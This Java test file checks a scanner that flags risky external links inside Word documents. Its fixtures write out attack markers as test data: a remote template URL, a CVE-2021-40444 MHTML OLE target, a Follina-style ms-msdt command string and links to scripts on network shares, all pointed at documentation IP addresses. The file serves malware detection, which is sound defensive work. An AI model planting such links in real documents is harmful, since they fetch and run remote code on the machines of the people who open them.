package dev.prefilter.engine.office.links;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.prefilter.engine.model.Finding;
import dev.prefilter.engine.model.Severity;
import dev.prefilter.engine.model.Verdict;
import dev.prefilter.engine.office.OfficeFixtures;
import dev.prefilter.engine.office.ReportChecks;
import dev.prefilter.engine.report.Report;
import dev.prefilter.engine.testing.TestEngines;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;

class ExternalRelationshipAnalyzerTest {

    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    @Test
    void aRemoteTemplateIsSuspiciousAndItsUrlIsEvidence() throws IOException {
        Report report = TestEngines.scanFile(
                "letter.docx",
                docx(doc -> doc.getSettings()
                        .getPackagePart()
                        .addExternalRelationship(
                                "http://203.0.113.9/templates/normal.dotm", REL + "attachedTemplate")));

        Finding f = ReportChecks.only(report, "ooxml.external-template");
        assertEquals(Severity.HIGH, f.severity());
        assertEquals("http://203.0.113.9/templates/normal.dotm", f.evidence().get("url"));
        assertEquals("word/_rels/settings.xml.rels", f.evidence().get("part"));
        assertEquals(Verdict.SUSPICIOUS, report.verdict());
    }

    @Test
    void anMhtmlOleObjectIsMalicious() throws IOException {
        Report report = TestEngines.scanFile(
                "cve-2021-40444.docx",
                docx(doc -> doc.getPackagePart()
                        .addExternalRelationship(
                                "mhtml:http://203.0.113.9/a.html!x-usc:http://203.0.113.9/a.html", REL + "oleObject")));

        assertEquals(
                Severity.CRITICAL, ReportChecks.only(report, "ooxml.link-mhtml").severity());
        assertTrue(TestEngines.codes(report).contains("ooxml.external-ole-object"));
        assertEquals(Verdict.MALICIOUS, report.verdict());
    }

    @Test
    void anMsdtTargetIsMalicious() throws IOException {
        Report report = TestEngines.scanFile(
                "follina.docx",
                rawTarget(
                        docx(doc -> doc.getPackagePart().addExternalRelationship(PLACEHOLDER, REL + "oleObject")),
                        "ms-msdt:/id PCWDiagnostic /skip force /param &quot;IT_BrowseForFile=x&quot;"));

        assertEquals(
                Severity.CRITICAL,
                ReportChecks.only(report, "ooxml.link-ms-msdt").severity());
        assertEquals(Verdict.MALICIOUS, report.verdict());
    }

    @Test
    void anOleObjectLinkedToAPageEndingInBangIsTheFollinaLoader() throws IOException {
        Report report = TestEngines.scanFile(
                "loader.docx",
                docx(doc -> doc.getPackagePart()
                        .addExternalRelationship("http://203.0.113.9/index.html!", REL + "oleObject")));

        assertEquals(
                Severity.CRITICAL,
                ReportChecks.only(report, "ooxml.external-ole-object-mshtml").severity());
        assertEquals(Verdict.MALICIOUS, report.verdict());
    }

    @Test
    void framesAndSubDocumentsFromOutsideAreSuspicious() throws IOException {
        Report report = TestEngines.scanFile(
                "f.docx",
                rawTarget(
                        docx(doc -> {
                            doc.getPackagePart().addExternalRelationship(PLACEHOLDER, REL + "subDocument");
                            doc.getPackagePart()
                                    .addExternalRelationship("https://203.0.113.9/frame.html", REL + "frame");
                        }),
                        "\\\\203.0.113.9\\share\\sub.docx"));

        assertEquals(
                Severity.HIGH,
                ReportChecks.only(report, "ooxml.external-subdocument").severity());
        assertEquals(
                Severity.HIGH, ReportChecks.only(report, "ooxml.external-frame").severity());
    }

    @Test
    void aTemplateOrLinkedChartOnTheAuthorsDiskIsNotSuspicious() throws IOException {
        Report report = TestEngines.scanFile(
                "memo.docx",
                rawTarget(
                        docx(doc -> {
                            doc.getSettings()
                                    .getPackagePart()
                                    .addExternalRelationship(PLACEHOLDER, REL + "attachedTemplate");
                            doc.getPackagePart()
                                    .addExternalRelationship(
                                            "file:///C:/Users/kim/Documents/Book1.xlsx", REL + "oleObject");
                        }),
                        "file:///C:\\Users\\kim\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"));

        assertEquals(
                2, ReportChecks.withCode(report, "ooxml.external-local-link").size());
        assertEquals(List.of(), ReportChecks.oursAboveInfo(report));
        assertEquals(Verdict.CLEAN, report.verdict());
    }

    @Test
    void aTemplateOnAShareIsRemote() throws IOException {
        Report report = TestEngines.scanFile(
                "t.docx",
                rawTarget(
                        docx(doc -> doc.getSettings()
                                .getPackagePart()
                                .addExternalRelationship(PLACEHOLDER, REL + "attachedTemplate")),
                        "file:///\\\\198.51.100.3\\t\\x.dotm"));

        assertEquals(
                Severity.HIGH,
                ReportChecks.only(report, "ooxml.external-template").severity());
    }

    @Test
    void ordinaryHyperlinksAreFactsNotFindings() throws IOException {
        Report report = TestEngines.scanFile("links.docx", docx(doc -> {
            doc.getPackagePart().addExternalRelationship("https://www.example.com/", REL + "hyperlink");
            doc.getPackagePart().addExternalRelationship("mailto:someone@example.com", REL + "hyperlink");
            doc.getPackagePart().addExternalRelationship("https://intranet.example.com/report.pdf", REL + "hyperlink");
            doc.getPackagePart().addExternalRelationship("https://cdn.example.com/logo.png", REL + "image");
        }));

        assertEquals(List.of(), ReportChecks.oursAboveInfo(report));
        assertEquals(Verdict.CLEAN, report.verdict());
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> facts =
                (List<Map<String, Object>>) report.root().facts().get("externalRelationships");
        assertEquals(4, facts.size());
    }

    @Test
    void aHyperlinkToAScriptOnAShareIsSuspicious() throws IOException {
        Report report = TestEngines.scanFile(
                "h.docx",
                rawTarget(
                        docx(doc -> doc.getPackagePart().addExternalRelationship(PLACEHOLDER, REL + "hyperlink")),
                        "file:///\\\\198.51.100.3\\share\\open.vbs"));

        assertEquals(
                Severity.HIGH,
                ReportChecks.only(report, "ooxml.hyperlink-to-program").severity());
    }

    @Test
    void aBareRelsAttachmentIsAnalysedLikeAPackagePart() {
        byte[] rels = OfficeFixtures.utf8("""
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId9" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
                 Target="https://203.0.113.9/t.dotm" TargetMode="External"/>
                </Relationships>""");

        Report report = TestEngines.scanFile("settings.xml.rels", rels);

        assertEquals(
                "application/vnd.openxmlformats-package.relationships+xml",
                report.root().detectedType());
        assertEquals(
                Severity.HIGH,
                ReportChecks.only(report, "ooxml.external-template").severity());
    }

    @Test
    void aRelsPartWithADoctypeIsReadWithoutFetchingIt() {
        byte[] rels = OfficeFixtures.utf8("""
                <?xml version="1.0"?>
                <!DOCTYPE Relationships SYSTEM "http://203.0.113.9/relationships.dtd">
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="r" \
                Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
                 Target="https://203.0.113.9/x.doc" TargetMode="External"/>
                </Relationships>""");

        Report report = TestEngines.scanFile("document.xml.rels", rels);

        assertEquals(
                Severity.HIGH,
                ReportChecks.only(report, "ooxml.external-ole-object").severity());
    }

    @Test
    void aRelsPartThatIsNotXmlIsAParseFinding() {
        byte[] docx = OfficeFixtures.zip(Map.of(
                "[Content_Types].xml",
                        OfficeFixtures.utf8("<?xml version=\"1.0\"?><Types "
                                + "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                                + "<Override PartName=\"/word/document.xml\" "
                                + "ContentType=\"application/"
                                + "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"),
                "_rels/.rels",
                        OfficeFixtures.utf8("<?xml version=\"1.0\"?><Relationships "
                                + "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                + "<Relationship Id=\"rId1\" "
                                + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                + "officeDocument\" "
                                + "Target=\"word/document.xml\"/></Relationships>"),
                "word/document.xml",
                        OfficeFixtures.utf8("<w:document "
                                + "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>"),
                "word/_rels/document.xml.rels", OfficeFixtures.utf8("<Relationships><Relationship Target=\"http://x")));

        Report report = TestEngines.scanFile("bad.docx", docx);

        assertEquals(
                Severity.HIGH,
                ReportChecks.only(report, "parse.ooxml-relationships").severity());
        assertEquals(Verdict.SUSPICIOUS, report.verdict());
    }

    /** POI only writes targets that are valid URIs; Office (and attackers) write any string. */
    private static final String PLACEHOLDER = "http://placeholder.invalid/target";

    static byte[] rawTarget(byte[] docx, String xmlEscapedTarget) throws IOException {
        java.util.Map<String, byte[]> parts = new java.util.LinkedHashMap<>();
        try (java.util.zip.ZipInputStream in =
                new java.util.zip.ZipInputStream(new java.io.ByteArrayInputStream(docx))) {
            for (java.util.zip.ZipEntry e; (e = in.getNextEntry()) != null; ) {
                byte[] b = in.readAllBytes();
                if (e.getName().endsWith(".rels")) {
                    b = new String(b, java.nio.charset.StandardCharsets.UTF_8)
                            .replace(PLACEHOLDER, xmlEscapedTarget)
                            .getBytes(java.nio.charset.StandardCharsets.UTF_8);
                }
                parts.put(e.getName(), b);
            }
        }
        return OfficeFixtures.zip(parts);
    }

    interface DocEdit {
        void apply(XWPFDocument doc) throws IOException;
    }

    static byte[] docx(DocEdit edit) throws IOException {
        try (XWPFDocument doc = new XWPFDocument()) {
            doc.createParagraph().createRun().setText("Quarterly figures attached.");
            edit.apply(doc);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            doc.write(out);
            return out.toByteArray();
        }
    }
}
